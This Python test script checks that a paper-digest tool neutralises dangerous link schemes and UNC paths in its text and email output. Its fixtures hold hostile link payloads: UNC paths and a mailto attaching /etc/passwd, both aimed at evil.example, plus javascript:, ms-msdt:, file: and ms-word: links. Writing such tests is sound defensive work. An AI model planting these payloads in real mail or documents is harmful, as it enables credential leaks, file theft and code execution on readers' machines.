#!/usr/bin/env python3
"""The digest's free text (titles, presenters, venues, summaries, notes of
weeks not read) reaches the reader as text, never as a link the policy did
not judge: in the .txt and in the mail's text and HTML parts, nothing shaped
like a URL with a scheme other than http/https (javascript:, ms-msdt:/id,
search-ms:, mailto:?attach=, file:///, smb://) and no UNC path (\\\\host\\share)
is left for a mail client to make clickable (second fresh attack, H1).

usage: digest_free_text.py PAPERBOOK WORKDIR"""
import email
import email.policy
import html.parser
import os
import re
import shutil
import subprocess
import sys

pb, work = sys.argv[1], sys.argv[2]
shutil.rmtree(work, ignore_errors=True)
lib = os.path.join(work, "lib")
os.makedirs(os.path.join(lib, "papers"))
HOSTILE = ("UNC \\\\evil.example\\share\\x smb://evil.example/s JAVASCRIPT:alert(1) vbscript:x "
           "ms-msdt:/id data:text/html,<b> search-ms:query=x file :///etc/passwd "
           "mailto:x@evil.example?attach=/etc/passwd ms-word:ofe|u|http://evil/x.docx")
with open(os.path.join(lib, "papers", "a.md"), "w", encoding="utf-8") as f:
    f.write("---\ntitle: '%s'\npresenter: 'Bob \\\\evil\\p file://evil/x'\nvenue: 'javascript:v'\n"
            "date: 2024-10-11\npaper: https://arxiv.org/abs/1706.03762\n---\n%s. Second sentence.\n"
            % (HOSTILE.replace("'", "''"), HOSTILE))
with open(os.path.join(lib, "log.md"), "w", encoding="utf-8") as f:
    f.write("## 2024-10-11\n\n[2024-10-11]-[Eve]-本周未精读 ms-msdt:/id \\\\evil\\share\n")
env = dict(os.environ, PAPERBOOK_BROWSER="none", SOURCE_DATE_EPOCH="1729000000")
env.pop("PAPERBOOK_CACHE_DIR", None)
eml = os.path.join(work, "d.eml")
p = subprocess.run([pb, "digest", "--since", "2024-10-01", ".", "--text", "--mail", eml,
                    "-o", os.path.join(work, "d.pdf"), "--from", "a@example.org", "--to",
                    "b@example.org"], cwd=lib, env=env, capture_output=True)
fails = []
if p.returncode not in (0, 1) or not os.path.exists(eml):
    print("FAIL: digest failed:", p.stderr.decode("utf-8", "replace")[-600:])
    sys.exit(1)


class Text(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.out = []

    def handle_data(self, d):
        self.out.append(d)


SCHEME = re.compile(r"(?<![A-Za-z0-9+.\-])(?!https?:)([A-Za-z][A-Za-z0-9+.\-]*)[ \t]*:(?=\S)")
UNC = re.compile(r"\\\\[A-Za-z0-9]")
txt = os.path.join(work, "d.txt")  # beside -o
parts = [("digest .txt", open(txt, encoding="utf-8").read())] if os.path.exists(txt) else []
if not parts:
    fails.append("no digest .txt written")
msg = email.message_from_binary_file(open(eml, "rb"), policy=email.policy.default)
for part in msg.walk():
    if part.get_content_type() == "text/plain":
        parts.append(("text part", part.get_content()))
    elif part.get_content_type() == "text/html":
        t = Text()
        t.feed(part.get_content())
        parts.append(("HTML part's text", "".join(t.out)))
for name, text in parts:
    found = [m.group(0) for m in SCHEME.finditer(text)] + [m.group(0) for m in UNC.finditer(text)]
    print("%s: %d characters, %d linkable" % (name, len(text), len(found)))
    if found:
        fails.append("%s leaves %s" % (name, sorted(set(found))[:8]))
    if "alert(1)" not in text and name != "digest .txt":
        fails.append("%s lost the title's text" % name)
if len(parts) < 3:
    fails.append("expected the .txt, a text part and an HTML part, got %s" % [n for n, _ in parts])
for f in fails:
    print("FAIL:", f)
sys.exit(1 if fails else 0)
